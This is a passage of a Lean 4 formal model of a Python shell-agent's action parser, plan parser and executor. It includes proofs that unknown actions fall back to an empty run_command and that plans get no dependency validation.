
def parseJStrBody (s : List Char) : Option (List Char × List Char) :=
  parseJStrBodyF (s.length + 1) s

def digitsToNat (ds : List Char) : Nat :=
  ds.foldl (fun a c => a * 10 + (c.toNat - 48)) 0

/-- A JSON number starting at the head of the input. -/
def parseJNum (s : List Char) : Option (Json × List Char) :=
  let (neg, sign, s1) :=
    match s with
    | '-' :: t => (true, ['-'], t)
    | _ => (false, ([] : List Char), s)
  let intPart : Option (List Char × List Char) :=
    match s1 with
    | '0' :: t => some (['0'], t)
    | c :: t =>
        if isDigitC c && !(c = '0') then
          some ((c :: t).takeWhile isDigitC, (c :: t).dropWhile isDigitC)
        else none
    | [] => none
  match intPart with
  | none => none
  | some (ds, r1) =>
      let fracPart : Option (List Char × List Char) :=
        match r1 with
        | '.' :: t =>
            match t.takeWhile isDigitC with
            | [] => none
            | fs => some ('.' :: fs, t.dropWhile isDigitC)
        | _ => some ([], r1)
      match fracPart with
      | none => none
      | some (fs, r2) =>
          let expPart : Option (List Char × List Char) :=
            match r2 with
            | e :: t =>
                if e = 'e' || e = 'E' then
                  let (es, t2) :=
                    match t with
                    | '+' :: t3 => (['+'], t3)
                    | '-' :: t3 => (['-'], t3)
                    | _ => (([] : List Char), t)
                  match t2.takeWhile isDigitC with
                  | [] => none
                  | xs => some (e :: es ++ xs, t2.dropWhile isDigitC)
                else some ([], r2)
            | [] => some ([], r2)
          match expPart with
          | none => none
          | some (es, r3) =>
              if fs.isEmpty && es.isEmpty then
                let n : Int := Int.ofNat (digitsToNat ds)
                some (.jint (if neg then -n else n), r3)
              else
                some (.jfloat (String.mk (sign ++ ds ++ fs ++ es)), r3)

mutual

/-- A JSON value at the head of the input (leading whitespace already
skipped).  Fuel decreases at every call; `loads` supplies enough. -/
def parseJValue : Nat → List Char → Option (Json × List Char)
  | 0, _ => none
  | f + 1, s =>
      match s with
      | [] => none
      | c :: t =>
          if c = '\x7b' then parseObjTail f t
          else if c = '[' then parseArrTail f t
          else if c = '"' then do
            let (cs, rest) ← parseJStrBody t
            some (.jstr (String.mk cs), rest)
          else if leadsWith "null".data (c :: t) then some (.jnull, (c :: t).drop 4)
          else if leadsWith "true".data (c :: t) then some (.jbool true, (c :: t).drop 4)
          else if leadsWith "false".data (c :: t) then some (.jbool false, (c :: t).drop 5)
          else if c = '-' || isDigitC c then parseJNum (c :: t)
          else none

def parseArrTail : Nat → List Char → Option (Json × List Char)
  | 0, _ => none
  | f + 1, s =>
      match skipJWs s with
      | ']' :: t => some (.jarr .nil, t)
      | s1 => do
          let (elems, rest) ← parseArrItems f s1
          some (.jarr elems, rest)

def parseArrItems : Nat → List Char → Option (JArr × List Char)
  | 0, _ => none
  | f + 1, s => do
      let (v, r) ← parseJValue f (skipJWs s)
      match skipJWs r with
      | ',' :: t => do
          let (tl, r2) ← parseArrItems f t
          some (.cons v tl, r2)
      | ']' :: t => some (.cons v .nil, t)
      | _ => none

def parseObjTail : Nat → List Char → Option (Json × List Char)
  | 0, _ => none
  | f + 1, s =>
      match skipJWs s with
      | '\x7d' :: t => some (.jobj .nil, t)
      | s1 => do
          let (m, rest) ← parseObjItems f JObj.nil s1
          some (.jobj m, rest)

def parseObjItems : Nat → JObj → List Char → Option (JObj × List Char)
  | 0, _, _ => none
  | f + 1, acc, s =>
      match skipJWs s with
      | '"' :: t => do
          let (kc, r) ← parseJStrBody t
          match skipJWs r with
          | ':' :: t2 => do
              let (v, r2) ← parseJValue f (skipJWs t2)
              let acc2 := acc.setKey (String.mk kc) v
              match skipJWs r2 with
              | ',' :: t3 => parseObjItems f acc2 t3
              | '\x7d' :: t3 => some (acc2, t3)
              | _ => none
          | _ => none
      | _ => none

end

/-- Python `json.loads`: one value, with at most whitespace around it. -/
def loads (s : String) : Option Json :=
  match parseJValue (4 * s.data.length + 8) (skipJWs s.data) with
  | some (v, r) => if (skipJWs r).isEmpty then some v else none
  | none => none

/-! The Action model (src/hermit/actions.py).  Python dataclasses do not check
field types; the embedding types each field, and `parse_action` below returns
`none` for inputs that would build a dataclass whose typed fields hold
non-conforming JSON values (such inputs never arise from the modelled
pipeline).  Only `RunCommand` can carry a non-canonical `action` value, since
every known name dispatches to its own class; that value is any hashable JSON
scalar (`ACTION_MAP.get(v, RunCommand)` succeeds for those and the filtered
field dict passes `v` through), represented by `JAtom`. -/

/-- A hashable JSON scalar: the possible values of the `action` attribute of a
`RunCommand` built by `parse_action`.  Arrays and objects are unhashable, so
`ACTION_MAP.get` raises a caught `TypeError` for them instead. -/
inductive JAtom where
  | anull
  | abool (b : Bool)
  | aint (n : Int)
  | afloat (raw : String)
  | astr (s : String)
deriving DecidableEq, Repr

inductive Action where
  | listFiles (path : String) (all : Bool) (long : Bool)
  | readFile (path : String)
  | createFile (path : String) (content : String)
  | deleteFiles (path : String) (pattern : Option String) (recursive : Bool)
  | moveFile (source : String) (destination : String)
  | organizeByType (path : String)
  | createDirectory (path : String)
  | findFiles (path : String) (pattern : Option String) (fileType : Option String)
  | runCommand (action : JAtom) (command : String)
deriving DecidableEq, Repr

/-- The single-quote string. -/
def sqS : String := String.mk [squote]

/-- Python replacement text `content.replace("'", "'\\''")`. -/
def aposEsc : String := String.mk [squote, '\\', squote, squote]

def Action.render : Action → String
  | .listFiles path all long =>
      let flags := (if all then "a" else "") ++ (if long then "l" else "")
      if flags ≠ "" then "ls -" ++ flags ++ " " ++ path else "ls " ++ path
  | .readFile path => "cat " ++ path
  | .createFile path content =>
      "echo " ++ sqS ++ pyReplace content sqS aposEsc ++ sqS ++ " > " ++ path
  | .deleteFiles path pat recursive =>
      match pat with
      | some p =>
          if recursive then
            "find " ++ path ++ " -name " ++ sqS ++ p ++ sqS ++ " -delete"
          else "rm " ++ path ++ "/" ++ p
      | none => if recursive then "rm -r " ++ path else "rm " ++ path
  | .moveFile source destination => "mv " ++ source ++ " " ++ destination
  | .organizeByType path =>
      "cd " ++ path ++ " && \n" ++
      "mkdir -p images documents audio video archives other &&\n" ++
      "for f in *.jpg *.jpeg *.png *.gif *.webp; do [ -f \"$f\" ] && mv \"$f\" images/; done 2>/dev/null;\n" ++
      "for f in *.pdf *.doc *.docx *.txt *.md; do [ -f \"$f\" ] && mv \"$f\" documents/; done 2>/dev/null;\n" ++
      "for f in *.mp3 *.wav *.flac; do [ -f \"$f\" ] && mv \"$f\" audio/; done 2>/dev/null;\n" ++
      "for f in *.mp4 *.mov *.avi; do [ -f \"$f\" ] && mv \"$f\" video/; done 2>/dev/null;\n" ++
      "for f in *.zip *.tar *.gz; do [ -f \"$f\" ] && mv \"$f\" archives/; done 2>/dev/null;\n" ++
      "true"
  | .createDirectory path => "mkdir -p " ++ path
  | .findFiles path pat fileType =>
      let cmd := "find " ++ path
      let cmd := if fileType = some "file" then cmd ++ " -type f"
        else if fileType = some "directory" then cmd ++ " -type d"
        else cmd
      match pat with
      | some p => cmd ++ " -name " ++ sqS ++ p ++ sqS
      | none => cmd
  | .runCommand _ command => command

/-! Typed field extraction mirroring `{k: v for k, v in data.items() if k in
action_class.__dataclass_fields__}` followed by dataclass construction:
a missing key takes the dataclass default, a present key must carry the
field's type (`none` models an ill-typed construction, see above). -/

def getStrD (m : JObj) (key : String) (dflt : String) : Option String :=
  match m.lookup key with
  | none => some dflt
  | some (.jstr s) => some s
  | some _ => none

def getBoolD (m : JObj) (key : String) (dflt : Bool) : Option Bool :=
  match m.lookup key with
  | none => some dflt
  | some (.jbool b) => some b
  | some _ => none

def getOptStr (m : JObj) (key : String) : Option (Option String) :=
  match m.lookup key with
  | none => some none
  | some .jnull => some none
  | some (.jstr s) => some (some s)
  | some _ => none

def KNOWN_ACTIONS : List String :=
  ["list_files", "read_file", "create_file", "delete_files", "move_file",
   "create_directory", "find_files", "run_command", "organize_by_type"]

/-- `RunCommand(**valid_fields)` for an `action` member that is any hashable
JSON scalar `v`: `ACTION_MAP.get(v, RunCommand)` returns `RunCommand` (no
scalar equals a key of the map), and the field filter keeps `action = v` and a
`command` member when present (default `""`). -/
def buildRunCommand (v : JAtom) (m : JObj) : Option Action := do
  let command ← getStrD m "command" ""
  some (.runCommand v command)

/-- Build the dataclass chosen by `ACTION_MAP.get(action_type, RunCommand)`
from the members of the JSON object. -/
def buildAction (name : String) (m : JObj) : Option Action :=
  if name = "list_files" then do
    let path ← getStrD m "path" "."
    let all ← getBoolD m "all" false
    let long ← getBoolD m "long" false
    some (.listFiles path all long)
  else if name = "read_file" then do
    let path ← getStrD m "path" ""
    some (.readFile path)
  else if name = "create_file" then do
    let path ← getStrD m "path" ""
    let content ← getStrD m "content" ""
    some (.createFile path content)
  else if name = "delete_files" then do
    let path ← getStrD m "path" ""
    let pat ← getOptStr m "pattern"
    let recursive ← getBoolD m "recursive" false
    some (.deleteFiles path pat recursive)
  else if name = "move_file" then do
    let source ← getStrD m "source" ""
    let destination ← getStrD m "destination" ""
    some (.moveFile source destination)
  else if name = "create_directory" then do
    let path ← getStrD m "path" ""
    some (.createDirectory path)
  else if name = "find_files" then do
    let path ← getStrD m "path" "."
    let pat ← getOptStr m "pattern"
    let fileType ← getOptStr m "file_type"
    some (.findFiles path pat fileType)
  else if name = "organize_by_type" then do
    let path ← getStrD m "path" "."
    some (.organizeByType path)
  else
    buildRunCommand (.astr name) m

/-- `parse_action` from src/hermit/actions.py.  `loads` failure models the
caught `json.JSONDecodeError` (fall back to `RunCommand(command=json_str)`);
a valid JSON value that is not an object models the uncaught `AttributeError`
on `data.get`, hence `none`.  An `action` member that is an array or object is
unhashable, so `ACTION_MAP.get` raises a `TypeError` caught by the same
handler (fall back to `RunCommand(command=json_str)`); the other non-string
values are hashable and build `RunCommand(action=<value>, ...)`. -/
def parse_action (json_str : String) : Option Action :=
  match loads json_str with
  | none => some (.runCommand (.astr "run_command") json_str)
  | some (.jobj m) =>
      match m.lookup "action" with
      | none => buildAction "run_command" m
      | some (.jstr a) => buildAction a m
      | some .jnull => buildRunCommand .anull m
      | some (.jbool b) => buildRunCommand (.abool b) m
      | some (.jint n) => buildRunCommand (.aint n) m
      | some (.jfloat raw) => buildRunCommand (.afloat raw) m
      | some (.jarr _) => some (.runCommand (.astr "run_command") json_str)
      | some (.jobj _) => some (.runCommand (.astr "run_command") json_str)
  | some _ => none

example : parse_action "\x7b\"action\": \"list_files\", \"path\": \".\", \"all\": true, \"long\": true\x7d" =
    some (.listFiles "." true true) := by decide

example : (parse_action "\x7b\"action\": \"list_files\", \"path\": \".\", \"all\": true, \"long\": true\x7d").map Action.render =
    some "ls -al ." := by decide

example : parse_action "not json at all" =
    some (.runCommand (.astr "run_command") "not json at all") := by decide

example : parse_action "\x7b\"action\": 5, \"command\": \"ls\"\x7d" =
    some (.runCommand (.aint 5) "ls") := by decide

example : parse_action "\x7b\"action\": [1]\x7d" =
    some (.runCommand (.astr "run_command") "\x7b\"action\": [1]\x7d") := by decide

example : parse_action "\x7b\"action\": \"delete_files\", \"path\": \".\", \"pattern\": \"*.log\", \"recursive\": true\x7d" =
    some (.deleteFiles "." (some "*.log") true) := by decide

/-- Counterexample to C3: the JSON text `{"action": "frobnicate"}` is valid
JSON with an unknown action name, yet `parse_action` returns a `run_command`
whose `command` is the empty string (the absent `command` member's default),
not the raw JSON text. -/
theorem C3_counterexample :
    parse_action "\x7b\"action\": \"frobnicate\"\x7d" =
      some (.runCommand (.astr "frobnicate") "")
    ∧ parse_action "\x7b\"action\": \"frobnicate\"\x7d" ≠
        some (.runCommand (.astr "frobnicate") "\x7b\"action\": \"frobnicate\"\x7d") :=
  ⟨by decide, by decide⟩

/-- C3 (amended).  (1) A valid JSON object whose `action` member is an unknown
string name parses to a `run_command` carrying that name, with `command` taken
from the object's own `command` member — the empty-string default when the
member is absent, the member's string value when present — never the raw text.
The raw text becomes the command (2) when the text fails to parse as JSON
(caught `json.JSONDecodeError`), and also when the `action` member is an
unhashable JSON value — (3) an array or (4) an object — whose `ACTION_MAP`
lookup raises a `TypeError` caught by the same handler. -/
theorem C3_unknown_action_degrades :
    (∀ (t : String) (m : JObj) (a c : String),
      loads t = some (.jobj m) →
      m.lookup "action" = some (.jstr a) →
      a ∉ KNOWN_ACTIONS →
      (m.lookup "command" = none ∧ c = "" ∨ m.lookup "command" = some (.jstr c)) →
      parse_action t = some (.runCommand (.astr a) c))
    ∧ (∀ t : String, loads t = none →
      parse_action t = some (.runCommand (.astr "run_command") t))
    ∧ (∀ (t : String) (m : JObj) (l : JArr),
      loads t = some (.jobj m) →
      m.lookup "action" = some (.jarr l) →
      parse_action t = some (.runCommand (.astr "run_command") t))
    ∧ (∀ (t : String) (m m2 : JObj),
      loads t = some (.jobj m) →
      m.lookup "action" = some (.jobj m2) →
      parse_action t = some (.runCommand (.astr "run_command") t)) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro t m a c hl ha hmem hcmd
    simp only [KNOWN_ACTIONS, List.mem_cons, List.not_mem_nil, or_false,
      not_or] at hmem
    obtain ⟨h1, h2, h3, h4, h5, h6, h7, h8, h9⟩ := hmem
    have hstep : parse_action t =
        (match m.lookup "action" with
         | none => buildAction "run_command" m
         | some (.jstr a) => buildAction a m
         | some .jnull => buildRunCommand .anull m
         | some (.jbool b) => buildRunCommand (.abool b) m
         | some (.jint n) => buildRunCommand (.aint n) m
         | some (.jfloat raw) => buildRunCommand (.afloat raw) m
         | some (.jarr _) => some (.runCommand (.astr "run_command") t)
         | some (.jobj _) => some (.runCommand (.astr "run_command") t)) := by
      unfold parse_action
      rw [hl]
    rw [hstep, ha]
    show buildAction a m = some (.runCommand (.astr a) c)
    unfold buildAction
    rw [if_neg h1, if_neg h2, if_neg h3, if_neg h4, if_neg h5, if_neg h6,
      if_neg h7, if_neg h9]
    unfold buildRunCommand getStrD
    rcases hcmd with ⟨hnone, hc⟩ | hsome
    · rw [hnone, hc]; rfl
    · rw [hsome]; rfl
  · intro t hl
    unfold parse_action
    rw [hl]
  · intro t m l hl ha
    unfold parse_action
    rw [hl]
    dsimp only []
    rw [ha]
  · intro t m m2 hl ha
    unfold parse_action
    rw [hl]
    dsimp only []
    rw [ha]

/-- Witness for the amended C3: all four clauses at concrete inputs — an
unknown action name with the `command` member absent and with it present, a
non-JSON text, and an array-valued and an object-valued `action` member. -/
theorem C3_unknown_action_degrades_witness :
    parse_action "\x7b\"action\": \"frobnicate\"\x7d" =
      some (.runCommand (.astr "frobnicate") "")
    ∧ parse_action "\x7b\"action\": \"frobnicate\", \"command\": \"ls\"\x7d" =
      some (.runCommand (.astr "frobnicate") "ls")
    ∧ parse_action "oops" =
      some (.runCommand (.astr "run_command") "oops")
    ∧ parse_action "\x7b\"action\": [1]\x7d" =
      some (.runCommand (.astr "run_command") "\x7b\"action\": [1]\x7d")
    ∧ parse_action "\x7b\"action\": \x7b\x7d\x7d" =
      some (.runCommand (.astr "run_command") "\x7b\"action\": \x7b\x7d\x7d") :=
  ⟨C3_unknown_action_degrades.1 "\x7b\"action\": \"frobnicate\"\x7d"
      (.cons "action" (.jstr "frobnicate") .nil) "frobnicate" ""
      rfl rfl (by decide) (Or.inl ⟨rfl, rfl⟩),
   C3_unknown_action_degrades.1 "\x7b\"action\": \"frobnicate\", \"command\": \"ls\"\x7d"
      (.cons "action" (.jstr "frobnicate") (.cons "command" (.jstr "ls") .nil))
      "frobnicate" "ls" rfl rfl (by decide) (Or.inr rfl),
   C3_unknown_action_degrades.2.1 "oops" rfl,
   C3_unknown_action_degrades.2.2.1 "\x7b\"action\": [1]\x7d"
      (.cons "action" (.jarr (.cons (.jint 1) .nil)) .nil)
      (.cons (.jint 1) .nil) rfl rfl,
   C3_unknown_action_degrades.2.2.2 "\x7b\"action\": \x7b\x7d\x7d"
      (.cons "action" (.jobj .nil) .nil) .nil rfl rfl⟩

/-! The planner data model and `parse_plan` (src/hermit/planner.py). -/

structure PlanStep where
  step_id : Int
  action_json : Json
  depends_on : List Int
  description : String

structure Plan where
  steps : List PlanStep
  description : String

/-- `re.sub(r',\s*([}\]])', r'\1', text)`: drop a comma standing (up to
whitespace) before a closing brace or bracket, scanning left to right.
Fuelled: each step consumes at least one character. -/
def commaFixF : Nat → List Char → List Char
  | 0, s => s
  | _ + 1, [] => []
  | f + 1, c :: t =>
      if c = ',' then
        match t.dropWhile isPySpace with
        | '\x7d' :: t2 => '\x7d' :: commaFixF f t2
        | ']' :: t2 => ']' :: commaFixF f t2
        | _ => ',' :: commaFixF f t
      else c :: commaFixF f t

def commaFix (s : List Char) : List Char := commaFixF (s.length + 1) s

def firstIdxAux (c : Char) : List Char → Nat → Option Nat
  | [], _ => none
  | x :: t, i => if x = c then some i else firstIdxAux c t (i + 1)

/-- Python `str.find` (as `Option` instead of `-1`). -/
def firstIdx (c : Char) (l : List Char) : Option Nat := firstIdxAux c l 0

/-- Python `str.rfind` (as `Option` instead of `-1`). -/
def lastIdx (c : Char) (l : List Char) : Option Nat :=
  match firstIdxAux c l.reverse 0 with
  | some i => some (l.length - 1 - i)
  | none => none

/-- Python `s[a:b]` for `0 ≤ a ≤ b`. -/
def sliceL (l : List Char) (a b : Nat) : List Char := (l.drop a).take (b - a)

def jArrToList : JArr → List Json
  | .nil => []
  | .cons x t => x :: jArrToList t

/-- `depends_on` entries; a non-integer entry models a dynamically ill-typed
plan outside the typed embedding. -/
def jIntList : List Json → Option (List Int)
  | [] => some []
  | .jint n :: t => do
      let r ← jIntList t
      some (n :: r)
  | _ :: _ => none

/-- One element of the `steps` array: `s["step_id"]`, `s["action"]`,
`s.get("depends_on", [])`, `s.get("description", "")`.  A missing `step_id`
or `action` key models the uncaught `KeyError` (a non-object element the
uncaught `TypeError` on `s["step_id"]`).  Python's `PlanStep(...)` itself is
untyped and would also accept a present field of another type (a string
`step_id`, a non-list `depends_on`); the embedding types `PlanStep`'s fields,
so it covers exactly the plans whose fields carry the declared types (integer
ids, integer dependency lists, string description) and returns `none` outside
that fragment, which the executor model does not cover either. -/
def extractStep (j : Json) : Option PlanStep :=
  match j with
  | .jobj sm => do
      let sid ← match sm.lookup "step_id" with
        | some (.jint n) => some n
        | _ => none
      let act ← sm.lookup "action"
      let deps ← match sm.lookup "depends_on" with
        | none => some []
        | some (.jarr l) => jIntList (jArrToList l)
        | some _ => none
      let descr ← match sm.lookup "description" with
        | none => some ""
        | some (.jstr s) => some s
        | some _ => none
      some ⟨sid, act, deps, descr⟩
  | _ => none

def extractSteps : List Json → Option (List PlanStep)
  | [] => some []
  | j :: t => do
      let s ← extractStep j
      let r ← extractSteps t
      some (s :: r)

/-- `parse_plan` from src/hermit/planner.py: strip, drop fence lines, then try
`json.loads` on the text, on the comma-fixed text, and on the outermost
`{…}` slice; build the plan from `steps`.  `none` models any raised
exception. -/
def parse_plan (raw_response : String) : Option Plan :=
  let response := pyStrip raw_response
  let response :=
    if leadsWith "```".data response.data then
      String.mk (joinSep ['\n']
        ((splitOnChar '\n' response.data).filter
          (fun l => !(leadsWith "```".data (pyStripL l)))))
    else response
  let data? : Option Json :=
    match loads response with
    | some d => some d
    | none =>
        let fixed := commaFix response.data
        match loads (String.mk fixed) with
        | some d => some d
        | none =>
            match firstIdx '\x7b' fixed, lastIdx '\x7d' fixed with
            | some st, some en => loads (String.mk (sliceL fixed st (en + 1)))
            | _, _ => none
  match data? with
  | none => none
  | some (.jobj m) => do
      let stepsList ← match m.lookup "steps" with
        | none => some []
        | some (.jarr l) => some (jArrToList l)
        | some _ => none
      let steps ← extractSteps stepsList
      let descr ← match m.lookup "description" with
        | none => some ""
        | some (.jstr s) => some s
        | some _ => none
      some ⟨steps, descr⟩
  | some _ => none

/-- Counterexample to C4: a plan whose single step declares a dependency on a
step id (5) that occurs nowhere in the plan is parsed successfully, not
rejected. -/
theorem C4_counterexample :
    (parse_plan "\x7b\"description\": \"d\", \"steps\": [\x7b\"step_id\": 1, \"action\": \x7b\"action\": \"list_files\"\x7d, \"depends_on\": [5], \"description\": \"s\"\x7d]\x7d").map
        (fun p => p.steps.map (fun s => (s.step_id, s.depends_on))) =
      some [((1 : Int), [(5 : Int)])]
    ∧ (5 : Int) ∉ [(1 : Int)] :=
  ⟨by decide, by decide⟩

/-- C4 (amended).  `parse_plan` performs no `depends_on` validation:
(first conjunct) whenever the stripped response is not fenced and decodes to a
JSON object whose extractable `steps` yield some list of `PlanStep`s,
`parse_plan` returns exactly those steps — nothing after extraction inspects
or rejects the dependency lists; (second conjunct) the extraction of a single
step copies any integer `depends_on` list `ds` verbatim, for every `ds` — it
never consults any other step, so unknown ids and forward references pass
through untouched. -/
theorem C4_no_dependency_validation :
    (∀ (t : String) (m : JObj) (stepsArr : JArr) (steps : List PlanStep)
      (descr : String),
      leadsWith "```".data (pyStrip t).data = false →
      loads (pyStrip t) = some (.jobj m) →
      m.lookup "steps" = some (.jarr stepsArr) →
      extractSteps (jArrToList stepsArr) = some steps →
      m.lookup "description" = some (.jstr descr) →
      parse_plan t = some ⟨steps, descr⟩)
    ∧ (∀ (sm : JObj) (sid : Int) (act : Json) (dl : JArr) (ds : List Int)
      (sd : String),
      sm.lookup "step_id" = some (.jint sid) →
      sm.lookup "action" = some act →
      sm.lookup "depends_on" = some (.jarr dl) →
      jIntList (jArrToList dl) = some ds →
      sm.lookup "description" = some (.jstr sd) →
      extractStep (.jobj sm) = some ⟨sid, act, ds, sd⟩) := by
  constructor
  · intro t m stepsArr steps descr h0 hl hsteps hext hdesc
    unfold parse_plan
    dsimp only []
    rw [h0, if_neg Bool.false_ne_true, hl]
    dsimp only []
    simp only [hsteps, hdesc]
    show Option.bind (extractSteps (jArrToList stepsArr))
      (fun s => some (Plan.mk s descr)) = some (Plan.mk steps descr)
    rw [hext]
    rfl
  · intro sm sid act dl ds sd h1 h2 h3 h4 h5
    unfold extractStep
    simp only [h1, h2, h3, h4, h5]
    rfl

/-- The two-step plan text of the C4 witness: step 1 depends on the later
step 2 (a forward reference). -/
def c4wText : String :=
  "\x7b\"description\": \"d\", \"steps\": [\x7b\"step_id\": 1, \"action\": \x7b\"action\": \"list_files\"\x7d, \"depends_on\": [2], \"description\": \"a\"\x7d, \x7b\"step_id\": 2, \"action\": \x7b\"action\": \"list_files\"\x7d, \"depends_on\": [], \"description\": \"b\"\x7d]\x7d"

def c4wAct : Json := .jobj (.cons "action" (.jstr "list_files") .nil)

def c4wStepObj1 : JObj :=
  .cons "step_id" (.jint 1) (.cons "action" c4wAct
    (.cons "depends_on" (.jarr (.cons (.jint 2) .nil))
      (.cons "description" (.jstr "a") .nil)))

def c4wStepObj2 : JObj :=
  .cons "step_id" (.jint 2) (.cons "action" c4wAct
    (.cons "depends_on" (.jarr .nil)
      (.cons "description" (.jstr "b") .nil)))

def c4wArr : JArr := .cons (.jobj c4wStepObj1) (.cons (.jobj c4wStepObj2) .nil)

def c4wObj : JObj :=
  .cons "description" (.jstr "d") (.cons "steps" (.jarr c4wArr) .nil)

/-- Witness for the amended C4: the first conjunct applied to the concrete
forward-reference plan (step 1 depends on the later step 2) and the second
conjunct to a step whose `depends_on` names the unknown id 5. -/
theorem C4_no_dependency_validation_witness :
    parse_plan c4wText =
      some ⟨[⟨1, c4wAct, [2], "a"⟩, ⟨2, c4wAct, [], "b"⟩], "d"⟩
    ∧ extractStep (.jobj (.cons "step_id" (.jint 1) (.cons "action" c4wAct
        (.cons "depends_on" (.jarr (.cons (.jint 5) .nil))
          (.cons "description" (.jstr "s") .nil))))) =
      some ⟨1, c4wAct, [5], "s"⟩ :=
  ⟨C4_no_dependency_validation.1 c4wText c4wObj c4wArr
      [⟨1, c4wAct, [2], "a"⟩, ⟨2, c4wAct, [], "b"⟩] "d" rfl rfl rfl rfl rfl,
   C4_no_dependency_validation.2
      (.cons "step_id" (.jint 1) (.cons "action" c4wAct
        (.cons "depends_on" (.jarr (.cons (.jint 5) .nil))
          (.cons "description" (.jstr "s") .nil))))
      1 c4wAct (.cons (.jint 5) .nil) [5] "s" rfl rfl rfl rfl rfl⟩

example : (parse_plan "not a json object").isSome = false := by decide

example : (parse_plan "```json\n\x7b\"description\": \"x\", \"steps\": []\x7d\n```").map
    (fun p => p.description) = some "x" := by decide

example : (parse_plan "\x7b\"description\": \"x\", \"steps\": [],\x7d").map
    (fun p => p.description) = some "x" := by decide

/-! The executor (src/hermit/executor.py).  Side effects are threaded through
an explicit world state `ω`: `execute_fn` and `approve_fn` consume and return
the world, so a re-run of the same command may produce different output.
Terminal/audit output does not influence any result and is not modelled. -/

structure StepResult where
  step_id : Int
  command : String
  output : String
  success : Bool
  risk : String
  skipped : Bool := false
  error : Option String := none
deriving DecidableEq, Repr

/-- `d[k] = v`: replace in place if the key exists, else append. -/
def setAssoc {α β : Type} [DecidableEq α] : List (α × β) → α → β → List (α × β)
  | [], k, v => [(k, v)]
  | (k0, v0) :: t, k, v =>
      if k0 = k then (k0, v) :: t else (k0, v0) :: setAssoc t k v

def lookupAssoc {α β : Type} [DecidableEq α] : List (α × β) → α → Option β
  | [], _ => none
  | (k0, v0) :: t, k => if k0 = k then some v0 else lookupAssoc t k

/-- Per-plan mutable state of the executor.  `results` is the
`step_id → StepResult` dict; `vars` is the Python `variables` dict
(`"$STEP{n}" → trimmed output`; `variables` is a reserved word in Lean), an
insertion-ordered association list as Python dicts are. -/
structure ExecutionContext where
  results : List (Int × StepResult) := []
  vars : List (String × String) := []

def ExecutionContext.record (ctx : ExecutionContext) (step_id : Int)
    (result : StepResult) : ExecutionContext :=
  { results := setAssoc ctx.results step_id result
    vars :=
      if result.success then
        setAssoc ctx.vars ("$STEP" ++ intStr step_id) (pyStrip result.output)
      else ctx.vars }

/-- Replace `$STEP{n}` placeholders with recorded outputs, iterating the
variables dict in insertion order. -/
def ExecutionContext.substitute (ctx : ExecutionContext) (text : String) : String :=
  ctx.vars.foldl (fun res kv => pyReplace res kv.1 kv.2) text

def ExecutionContext.deps_satisfied (ctx : ExecutionContext) :
    List Int → Bool × String
  | [] => (true, "")
  | d :: rest =>
      match lookupAssoc ctx.results d with
      | none => (false, "Step " ++ intStr d ++ " hasn" ++ sqS ++ "t run yet")
      | some r =>
          if !r.success then (false, "Step " ++ intStr d ++ " failed")
          else ctx.deps_satisfied rest

/-- The token scan inside `try_adapt`: first (from the right) `/`-containing
token not starting with `-` whose parent path is nonempty. -/
def scanParent : List (List Char) → Option String
  | [] => none
  | tok :: rest =>
      if containsSub ['/'] tok && !(leadsWith ['-'] tok) then
        let parent := joinSep ['/'] ((splitOnChar '/' tok).dropLast)
        if parent ≠ [] then some ("mkdir -p " ++ String.mk parent)
        else scanParent rest
      else scanParent rest

def try_adapt (command error_output : String) : Option String :=
  let fromLoop :=
    if pyIn "No such file or directory" error_output then
      scanParent (splitWs command.data).reverse
    else none
  match fromLoop with
  | some f => some f
  | none =>
      if pyIn "File exists" error_output then none
      else if pyIn "Permission denied" error_output then none
      else none

def PASSTHROUGH : List (List Char) :=
  ["find".data, "ls".data, "grep".data, "cat".data, "wc".data, "head".data,
   "tail".data]

def ERROR_SIGNALS : List String :=
  ["No such file", "Permission denied", "not found", "cannot ", "fatal:",
   "Error:"]

/-- `_looks_like_error` from src/hermit/executor.py. -/
def looksLikeError (command output : String) : Bool :=
  let cmd_base :=
    match splitWs (pyStripL command.data) with
    | [] => ([] : List Char)
    | t :: _ => t
  if PASSTHROUGH.contains cmd_base then false
  else ERROR_SIGNALS.any (fun sig => pyIn sig output)

/-- The execute-retry tail of the loop body, shared by the normal and the
post-approval paths: run the command, apply one rule-based adaptation on
failure, and build the `StepResult`. -/
def execRunCore {ω : Type} (execute_fn : ω → String → String × ω)
    (step_id : Int) (command risk : String) (w : ω) : StepResult × ω :=
  let p1 := execute_fn w command
  let success := !(looksLikeError command p1.1)
  let p2 : String × Bool × ω :=
    if !success then
      match try_adapt command p1.1 with
      | some fixed =>
          let pa := execute_fn p1.2 fixed
          let pb := execute_fn pa.2 command
          (pb.1, !(looksLikeError command pb.1), pb.2)
      | none => (p1.1, success, p1.2)
    else (p1.1, success, p1.2)
  (⟨step_id, command, p2.1, p2.2.1, risk, false,
     if !p2.2.1 then some (pyStrip p2.1) else none⟩, p2.2.2)

def execRun {ω : Type} (execute_fn : ω → String → String × ω)
    (step_id : Int) (command risk : String)
    (ctx : ExecutionContext) (w : ω) : StepResult × ExecutionContext × ω :=
  let rc := execRunCore execute_fn step_id command risk w
  (rc.1, ctx.record step_id rc.1, rc.2)

/-- One iteration of the `execute_plan` loop.  `none` models an uncaught
Python exception (`parse_action` hitting a valid-JSON non-object). -/
def execStep {ω : Type} (cfg : Bool) (execute_fn : ω → String → String × ω)
    (approve_fn : ω → String → Bool × ω) (step_by_step : Bool)
    (step : PlanStep) (ctx : ExecutionContext) (w : ω) :
    Option (StepResult × ExecutionContext × ω) :=
  let ds := ctx.deps_satisfied step.depends_on
  if ds.1 = false then
    let result : StepResult :=
      ⟨step.step_id, "", "", false, "skipped", true,
        some ("Dependency failed: " ++ ds.2)⟩
    some (result, ctx.record step.step_id result, w)
  else
    let action_str := ctx.substitute (dumps step.action_json)
    match parse_action action_str with
    | none => none
    | some action =>
        let command := action.render
        let policy := check_command cfg command
        if policy.allowed = false then
          let result : StepResult :=
            ⟨step.step_id, command, "", false, "blocked", false,
              some policy.reason⟩
          some (result, ctx.record step.step_id result, w)
        else if step_by_step ∨ policy.risk = .high then
          let ap := approve_fn w policy.risk.value
          if ap.1 = false then
            let result : StepResult :=
              ⟨step.step_id, command, "", false, "high", true,
                some "User cancelled"⟩
            some (result, ctx.record step.step_id result, ap.2)
          else some (execRun execute_fn step.step_id command policy.risk.value ctx ap.2)
        else some (execRun execute_fn step.step_id command policy.risk.value ctx w)

def runSteps {ω : Type} (cfg : Bool) (execute_fn : ω → String → String × ω)
    (approve_fn : ω → String → Bool × ω) (step_by_step : Bool) :
